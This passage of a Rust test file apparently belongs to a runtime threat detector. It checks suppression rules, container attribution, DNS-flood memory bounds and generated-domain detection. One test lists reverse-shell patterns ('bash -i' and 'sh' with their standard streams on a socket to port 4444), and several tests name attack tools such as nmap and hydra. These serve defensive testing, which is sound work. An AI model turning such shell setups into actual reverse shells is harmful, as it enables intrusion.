        "apiVersion: vigil.dev/v1alpha1\nkind: SuppressionRule\nmetadata: {name: pentest-box}\nspec:\n  criteria:\n    criterion:\n      type: {equals: ['Execution:Runtime/SuspiciousTool']}\n      process.executablePath: {matches: ['/usr/bin/nm*']}\n",
    )
    .unwrap();
    let mut d = detector_with(rules);
    let out = d.process(&exec(&["nmap", "h"]), &NoLookup);
    assert!(out[0].finding.archived);
    assert_eq!(out[0].archived_by.as_deref(), Some("pentest-box"));
    let again = d.process(&exec(&["nmap", "h"]), &NoLookup);
    assert!(again[0].finding.archived);
    assert_eq!(again[0].finding.count, 2);
    let other = d.process(&exec(&["masscan", "h"]), &NoLookup);
    assert!(!other[0].finding.archived);
    assert_eq!(d.stats().archived, 1);
}

#[test]
fn events_without_findings_and_unknown_processes_are_harmless() {
    let mut d = detector();
    let mut e = connect(96, "127.66.0.1:443", None);
    if let Event::Connect(n) = &mut e {
        n.family = "unix";
        n.remote = None;
        n.unix_path = Some("/run/x.sock".into());
    }
    assert!(d.process(&e, &NoLookup).is_empty());
    // A connect by a process whose exec was not seen: the process is still described.
    let out = d.process(&connect(97, "127.66.0.1:443", None), &NoLookup);
    let p = out[0].finding.process.as_ref().unwrap();
    assert_eq!((p.pid, p.name.as_str()), (97, "curl"));
    assert!(p.executable_path.is_empty());
}

#[test]
fn container_processes_get_container_resources_and_their_own_findings() {
    let mut d = detector();
    let host = d.process(&exec(&["nmap", "h"]), &NoLookup);
    let mut in_container = exec(&["nmap", "h"]);
    if let Event::Exec(e) = &mut in_container {
        e.process.container = Some(crate::container::Container {
            id: "ab".repeat(32),
            runtime: crate::container::Runtime::Containerd,
            pod_uid: Some("0b9a4f3e-1c2d-4e5f-8a9b-0c1d2e3f4a5b".into()),
            cgroup: "/kubepods.slice/x".into(),
            described: None,
        });
    }
    let out = d.process(&in_container, &NoLookup);
    let f = &out[0].finding;
    assert!(out[0].new, "a container is another resource");
    assert_ne!(f.id, host[0].finding.id);
    let c = f.resource.container.as_ref().unwrap();
    assert_eq!(c.id, "ab".repeat(32));
    assert_eq!(c.container_runtime.as_deref(), Some("containerd"));
    assert_eq!(
        f.resource.display_name,
        format!("node-a/{}", "ab".repeat(6))
    );
    assert_eq!(
        f.context.additional["podUid"],
        "0b9a4f3e-1c2d-4e5f-8a9b-0c1d2e3f4a5b"
    );
    assert!(host[0].finding.resource.container.is_none());
}

#[test]
fn container_name_image_and_pod_come_from_the_runtime_state_read_on_the_node() {
    let mut d = detector();
    let mut in_container = exec(&["nmap", "h"]);
    if let Event::Exec(e) = &mut in_container {
        e.process.container = Some(crate::container::Container {
            id: "cd".repeat(32),
            runtime: crate::container::Runtime::Crio,
            pod_uid: Some("0b9a4f3e-1c2d-4e5f-8a9b-0c1d2e3f4a5b".into()),
            cgroup: "/kubepods.slice/x".into(),
            described: Some(std::sync::Arc::new(crate::container::Described {
                name: Some("worker".into()),
                image: Some("quay.io/shop/worker:5@sha256:ab".into()),
                pod_name: Some("worker-0".into()),
                pod_namespace: Some("jobs".into()),
                privileged: Some(false),
            })),
        });
    }
    let out = d.process(&in_container, &NoLookup);
    let r = &out[0].finding.resource;
    let c = r.container.as_ref().unwrap();
    assert_eq!(c.name, "worker");
    assert_eq!(c.image.as_deref(), Some("quay.io/shop/worker:5@sha256:ab"));
    assert_eq!(c.image_prefix.as_deref(), Some("quay.io/shop/worker"));
    assert_eq!(c.container_runtime.as_deref(), Some("cri-o"));
    assert_eq!(c.privileged, Some(false));
    let pod = r.pod.as_ref().unwrap();
    assert_eq!(
        (pod.name.as_str(), pod.namespace.as_str()),
        ("worker-0", "jobs")
    );
    assert_eq!(
        pod.uid.as_deref(),
        Some("0b9a4f3e-1c2d-4e5f-8a9b-0c1d2e3f4a5b")
    );
    assert!(r.display_name.contains("worker"), "{}", r.display_name);
}

fn with_stdio(mut event: Event, fds: &[(u8, &'static str)]) -> Event {
    if let Event::Exec(e) = &mut event {
        e.stdio_sockets = fds
            .iter()
            .map(|(fd, family)| crate::event::StdioSocket {
                fd: *fd,
                family,
                remote: (*family != "unix").then(|| "127.0.0.1:4444".parse().unwrap()),
            })
            .collect();
    }
    event
}

/// (argv, standard streams that are sockets with their family, whether it is a reverse shell).
type StdioCase = (&'static [&'static str], &'static [(u8, &'static str)], bool);

#[test]
fn reverse_shell_needs_stdin_and_stdout_on_a_socket() {
    let table: &[StdioCase] = &[
        (
            &["bash", "-i"],
            &[(0, "inet"), (1, "inet"), (2, "inet")],
            true,
        ),
        (&["sh"], &[(0, "inet6"), (1, "inet6")], true),
        (&["python3", "-c", "x"], &[(0, "inet"), (1, "inet")], true),
        (&["bash", "-i"], &[(0, "inet")], false),
        (&["bash", "-i"], &[(1, "inet"), (2, "inet")], false),
        (&["bash", "-i"], &[(0, "unix"), (1, "unix")], false),
        (&["sshd", "-i"], &[(0, "inet"), (1, "inet")], false),
        (&["bash", "-i"], &[], false),
    ];
    for (argv, fds, want) in table {
        let mut d = detector();
        let got = rule_ids(&mut d, &with_stdio(exec(argv), fds));
        let want: Vec<&str> = if *want { vec!["reverse-shell"] } else { vec![] };
        assert_eq!(got, want, "{argv:?} {fds:?}");
    }
    let mut d = detector();
    let out = d.process(
        &with_stdio(exec(&["sh"]), &[(0, "inet"), (1, "inet")]),
        &NoLookup,
    );
    assert_eq!(
        out[0].finding.finding_type,
        "Execution:Runtime/ReverseShell"
    );
    assert_eq!(out[0].finding.severity_label, SeverityLabel::High);
    assert_eq!(
        out[0].finding.context.additional["stdioPeer"],
        "127.0.0.1:4444"
    );
}

#[test]
fn runner_reload_swaps_suppression_and_keeps_the_old_rules_on_error() {
    use super::host::{DetectionOptions, DetectionRunner, build_detector};
    let dir = std::env::temp_dir().join(format!("vigil-reload-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let intel = dir.join("intel.yaml");
    std::fs::write(&intel, "builtin: false\n").unwrap();
    let rules = dir.join("suppress.yaml");
    let rule = |t: &str| {
        format!(
            "apiVersion: vigil.dev/v1alpha1\nkind: SuppressionRule\nmetadata: {{name: r}}\nspec:\n  criteria:\n    criterion:\n      type: {{equals: ['{t}']}}\n"
        )
    };
    std::fs::write(&rules, rule("Execution:Runtime/SuspiciousTool")).unwrap();
    let options = DetectionOptions {
        intel_config: Some(intel),
        suppression: Some(rules.clone()),
        ..DetectionOptions::default()
    };
    let (detector, _) = build_detector(&options, Clock::with_offset(0), String::new()).unwrap();
    let mut runner = DetectionRunner::new(detector, &options).unwrap();
    let outcomes = runner.on_event(&exec(&["nmap", "h"]), &NoLookup);
    assert_eq!(outcomes.len(), 1);
    assert!(outcomes[0].finding.archived && !outcomes[0].is_shown());
    assert_eq!(outcomes[0].archived_by.as_deref(), Some("r"));
    assert_eq!(runner.detector().stats().archived, 1);

    std::fs::write(&rules, rule("Execution:Runtime/ReverseShell")).unwrap();
    runner.reload().unwrap();
    let shown = runner.on_event(&exec(&["masscan", "h"]), &NoLookup);
    assert_eq!(shown.len(), 1);
    assert!(shown[0].is_shown());

    std::fs::write(&rules, "spec: [").unwrap();
    let err = runner.reload().unwrap_err().to_string();
    assert!(err.contains("suppress.yaml"), "{err}");
    // The previous rules stay: a ReverseShell-only rule does not archive a tool.
    let outcomes = runner.on_event(&exec(&["hydra", "h"]), &NoLookup);
    assert!(outcomes.len() == 1 && outcomes[0].is_shown());
    // Only the enabled types are raised.
    runner.set_enabled_types(&["Execution:Runtime/ReverseShell".to_owned()]);
    assert!(
        runner
            .on_event(&exec(&["medusa", "h"]), &NoLookup)
            .is_empty()
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_disabled_type_is_never_raised_and_the_others_are() {
    let mut d = Detector::new(
        Arc::new(SharedIntel::new(test_intel())),
        Some(DgaModel::builtin().unwrap()),
        RuleSet::builtin_shared(),
        Vec::new(),
        DetectorConfig {
            disabled_types: [FindingType::ExecutionSuspiciousTool].into_iter().collect(),
            ..DetectorConfig::default()
        },
        Clock::with_offset(1_700_000_000_000_000_000),
    );
    // nmap is a SuspiciousTool, and nothing else.
    assert!(d.process(&exec(&["nmap", "h"]), &NoLookup).is_empty());
    assert_eq!(d.stats().disabled_skipped, 1);
    assert_eq!(d.stats().new_findings, 0);
    // A connect to a listed address still raises its type.
    let out = d.process(&connect(77, "127.66.0.1:443", None), &NoLookup);
    assert_eq!(out.len(), 1, "{out:?}");
    assert_eq!(
        out[0].finding.finding_type,
        "Backdoor:Runtime/C&CActivity.B"
    );
    // The same exec with the type on raises it.
    let raised = detector().process(&exec(&["nmap", "h"]), &NoLookup);
    assert!(
        raised
            .iter()
            .any(|o| o.finding.finding_type == "Execution:Runtime/SuspiciousTool"),
        "{raised:?}"
    );
}

#[test]
fn repeats_counted_in_the_kernel_reach_the_stored_count() {
    use super::host::{DetectionOptions, DetectionRunner};
    let dir = std::env::temp_dir().join(format!("vigil-folded-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let options = DetectionOptions {
        database: Some(dir.join("findings.db")),
        ..DetectionOptions::default()
    };
    let with_repeats = |repeats| match connect(77, "127.66.0.1:443", None) {
        Event::Connect(mut n) => {
            n.repeats = repeats;
            Event::Connect(n)
        }
        _ => unreachable!(),
    };
    let id = {
        let mut runner = DetectionRunner::new(detector(), &options).unwrap();
        let first = runner.on_event(&with_repeats(0), &NoLookup);
        assert_eq!(first[0].finding.count, 1);
        // One record standing for itself and 41 identical connects the kernel folded.
        let second = runner.on_event(&with_repeats(41), &NoLookup);
        assert_eq!(
            second[0].finding.count, 43,
            "the outcome carries the stored count"
        );
        second[0].finding.id.clone()
    };
    let store = crate::store::Store::open(&dir.join("findings.db"), Default::default()).unwrap();
    assert_eq!(store.get(&id).unwrap().unwrap().finding.count, 43);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Fails on a value that stands for "unknown" in a finding document: the id `4294967295`, the
/// epoch, an empty string. Unknown is absent.
fn assert_no_placeholders(value: &serde_json::Value, path: &str) {
    match value {
        serde_json::Value::Number(n) => {
            assert_ne!(
                n.as_u64(),
                Some(u64::from(u32::MAX)),
                "{path} is 4294967295"
            )
        }
        serde_json::Value::String(s) => {
            assert!(!s.is_empty(), "{path} is an empty string");
            assert!(!s.starts_with("1970-01-01T00:00:00"), "{path} is the epoch");
        }
        serde_json::Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                assert_no_placeholders(item, &format!("{path}[{i}]"));
            }
        }
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                assert_no_placeholders(v, &format!("{path}.{k}"));
            }
        }
        _ => {}
    }
}

#[test]
fn unknown_values_are_absent_from_finding_documents_not_placeholders() {
    let mut d = detector();
    // A connect by a process whose exec was never seen, with a parent nobody knows: no
    // executable path, no ids or start time for the ancestor.
    let out = d.process(&connect(97, "127.66.0.1:443", None), &NoLookup);
    let document = serde_json::to_value(&out[0].finding).unwrap();
    assert_no_placeholders(&document, "finding");
    assert!(document["process"].get("executablePath").is_none());
    // It reads back to the same document (times have the API's second precision).
    let back: Finding = serde_json::from_value(document.clone()).unwrap();
    assert_eq!(serde_json::to_value(&back).unwrap(), document);
}

/// A DNS flood (issue 12): names at the DNS maximum, answers for ever new addresses, and
/// algorithmically generated names from thousands of processes. Every table the DNS checks keep
/// stays within [`super::reputation::DNS_TRACKED_BYTES_BOUND`] (about 10 MiB), the oldest entries
/// make way, and detection still works after it.
#[test]
fn a_dns_flood_stays_within_the_tracked_byte_bound() {
    let mut d = detector();
    // Near-maximal names: three 61-character labels and one of 60, 246 bytes.
    let long = |i: u32| {
        let l = format!("{i:0>61}");
        format!("{l}.{l}.{l}.x{i:0>59}")
    };
    for i in 0..40_000u32 {
        let name = long(i);
        let ip = format!("127.{}.{}.{}", (i >> 16) & 0xff, (i >> 8) & 0xff, i & 0xff);
        let pid = 10_000 + i % 20_000;
        d.process(&dns_at(pid, i % 600, &name, None, &[]), &NoLookup);
        d.process(
            &dns_at(
                pid,
                i % 600,
                &name,
                Some("NOERROR"),
                &[(name.as_str(), "A", ip.as_str())],
            ),
            &NoLookup,
        );
    }
    // Generated-looking names, NXDOMAIN, three per process from 6,000 processes.
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let mut random_label = || {
        (0..16)
            .map(|_| {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                b"abcdefghijklmnopqrstuvwxyz0123456789"[(seed % 36) as usize] as char
            })
            .collect::<String>()
    };
    for p in 0..6_000u32 {
        for _ in 0..3 {
            let name = format!("{}.net", random_label());
            lookup_name(&mut d, &NoLookup, 100_000 + p, p % 600, &name, "NXDOMAIN");
        }
    }
    let bytes = d.dns_tracked_bytes();
    assert!(
        bytes <= super::reputation::DNS_TRACKED_BYTES_BOUND,
        "{bytes} > {}",
        super::reputation::DNS_TRACKED_BYTES_BOUND
    );
    // The tables really filled up (the bound is not met by keeping nothing).
    assert!(
        bytes > super::reputation::DNS_TRACKED_BYTES_BOUND / 3,
        "{bytes}"
    );
    assert!(d.dns_evicted() > 40_000, "{}", d.dns_evicted());
    // A new process generating names is still seen.
    let mut got = Vec::new();
    for (i, n) in GENERATED.iter().enumerate() {
        got.extend(lookup_name(
            &mut d,
            &NoLookup,
            999_999,
            10 + i as u32,
            n,
            "NXDOMAIN",
        ));
    }
    assert_eq!(dga_findings(&got).len(), 1);
}
